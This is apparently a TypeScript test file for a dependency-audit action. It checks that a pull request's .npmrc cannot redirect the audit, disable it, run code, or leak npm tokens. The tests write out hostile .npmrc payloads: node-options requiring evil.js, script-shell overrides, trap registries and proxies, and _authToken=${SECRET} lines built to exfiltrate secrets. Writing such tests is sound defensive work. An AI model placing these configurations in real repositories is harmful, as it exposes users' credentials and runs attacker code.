/** Attacks by .npmrc: the registries are those of the base and of the user, and credentials go where the user has them go. */
import assert from 'node:assert/strict';
import { mkdirSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { after, before, describe, it } from 'node:test';
import { findProgram } from '../../src/collect/program-path.ts';
import { removeCheckouts } from '../action/checkout.ts';
import { advisories, packages } from '../action/shops.ts';
import { bulkPath, type StandInRegistry, startRegistry } from '../stand-ins/registry.ts';
import { type Attack, type AttackEnd, attack, withstand } from './attack.ts';

let registry: StandInRegistry;

before(async () => {
  registry = await startRegistry({ packages, advisories });
});
after(async () => {
  await registry.close();
  await removeCheckouts();
});

// Windows has links only for administrators.
const skipped = { skip: process.platform === 'win32', concurrency: 2 };

/** What npm goes by where it is run in the repository. */
const bending =
  'offline=true\nprefer-offline=true\naudit=false\naudit-level=none\nomit[]=dev\nomit=prod\npackage-lock=false\ndry-run=true\nglobal=true\nstrict-ssl=false\nnode-options=--require ./evil.js\nscript-shell=./evil\nignore-scripts=false\nreplace-registry-host=always\n';

type Way = 'npm' | 'directly';

/** The user's own configuration with a token for the stand-in, and, to have it asked without npm, a PATH that holds git alone. */
function surroundings(
  way: Way,
  text: () => string,
  more: Readonly<Record<string, string>> = {},
): Attack['environment'] {
  return ({ temporary }) => {
    const file = join(temporary, 'user-npmrc');
    writeFileSync(file, `${text()}//${new URL(registry.url).host}/:_authToken=user-token\n`);
    const environment = { NPM_CONFIG_USERCONFIG: file, SECRET: 'a-secret', ...more };
    if (way === 'npm') return environment;
    const programs = join(temporary, 'programs');
    mkdirSync(programs);
    symlinkSync(findProgram('git', temporary)!, join(programs, 'git'));
    return { ...environment, PATH: programs };
  };
}

const named = () => `registry=${registry.url}\n`;
const none = () => '';

function assertAudited({ report, log }: AttackEnd): void {
  const audit = report.checks.find(({ name }) => name === 'npm-audit');
  assert.equal(audit?.state, 'ok', log);
  assert.ok(
    report.findings.some(({ advisory, outcome }) => advisory?.package === 'qs' && outcome === 'block'),
    log,
  );
}

const inputs = { audit: 'npm' };

for (const way of ['npm', 'directly'] as const) {
  describe(`the .npmrc of a pull request, asked ${way === 'npm' ? 'by npm' : way}`, skipped, () => {
    it('cannot send the audit elsewhere, switch it off or have a program run', async () => {
      const end = await withstand({
        inputs,
        files: (trap) => ({
          '.npmrc': `${bending}registry=${trap.url}\n@own:registry=${trap.url}\nproxy=${trap.url}\nhttps-proxy=${trap.url}\n//${new URL(trap.url).host}/:_authToken=\${SECRET}\n`,
          'evil.js': "require('node:fs').writeFileSync('ran', '')\n",
        }),
        environment: surroundings(way, named),
      });
      assertAudited(end);
    });

    it('does not replace what the base says', async () => {
      const end = await withstand({
        inputs,
        before: { '.npmrc': `${bending}registry=${registry.url}\n` },
        files: (trap) => ({ '.npmrc': `registry=${trap.url}\n` }),
        environment: surroundings(way, none),
      });
      assertAudited(end);
    });

    it('does not count where the base cannot be had', async () => {
      const end = await withstand(
        {
          inputs,
          files: (trap) => ({ '.npmrc': `registry=${trap.url}\n` }),
          environment: (checkout, trap) => ({
            ...surroundings(way, named)!(checkout, trap),
            GITHUB_SERVER_URL: 'http://127.0.0.1:9',
          }),
        },
        'unknown',
      );
      assertAudited(end);
    });
  });

  describe(`the .npmrc of the base, asked ${way === 'npm' ? 'by npm' : way}`, skipped, () => {
    it('names the registry, which gets the token that the user has for it', async () => {
      const seen = registry.requests.length;
      const end = await withstand({
        inputs,
        before: { '.npmrc': `${bending}registry=${registry.url}\n` },
        environment: surroundings(way, () => 'registry=http://127.0.0.1:9/\n'),
      });
      assertAudited(end);
      const asked = registry.requests.slice(seen).filter(({ path }) => path === bulkPath);
      assert.ok(asked.length > 0);
      for (const { headers } of asked) assert.equal(headers.authorization, 'Bearer user-token');
    });

    it('sends no token of the user to another server, and no variable of the environment', async () => {
      const end = await attack({
        inputs,
        before: (trap) => ({
          '.npmrc': `registry=${trap.url}\n@own:registry=${trap.url}\${SECRET}/\n//${new URL(trap.url).host}/:_authToken=\${SECRET}\n`,
        }),
        environment: surroundings(way, () => '', {
          npm_config__auth: 'dXNlcjpwYXNzd29yZA==',
          npm_config__authToken: 'user-token',
        }),
        callsNobody: false,
      });
      assert.ok(end.calls.length > 0, 'the base is believed where the registry is');
      for (const { authorization, path } of end.calls) {
        assert.equal(authorization, null);
        assert.ok(!path.includes('secret'));
      }
    });

    it('gets no credentials that the user has for no address in particular, which npm up to 8 sends anywhere', async () => {
      const end = await attack({
        inputs,
        before: (trap) => ({ '.npmrc': `registry=${trap.url}\n` }),
        environment: (checkout, trap) => {
          const given = surroundings(way, () => '_authToken=user-token\n')!(checkout, trap);
          if (way === 'directly') return given;
          // What npm 8 does with these credentials, unless a flag takes them back.
          const programs = join(checkout.temporary, 'npm-8');
          mkdirSync(programs);
          const program = `#!${process.execPath}\nconst own = !process.argv.includes('--_authToken=');\nrequire('node:http').get(process.env.npm_config_registry, { headers: own ? { authorization: 'Bearer user-token' } : {} }, (answer) => answer.resume().on('end', () => console.log(JSON.stringify({ auditReportVersion: 2, vulnerabilities: {} }))));\n`;
          writeFileSync(join(programs, 'npm'), program, { mode: 0o755 });
          return { ...given, PATH: `${programs}:${process.env.PATH}` };
        },
        callsNobody: false,
      });
      assert.ok(end.calls.length > 0);
      for (const { authorization } of end.calls) assert.equal(authorization, null);
    });

    it('has no say where the user names the registry by `registry`', async () => {
      const end = await withstand({
        inputs: { ...inputs, registry: registry.url },
        before: (trap) => ({ '.npmrc': `registry=${trap.url}\n` }),
        environment: surroundings(way, none),
      });
      assertAudited(end);
    });
  });
}
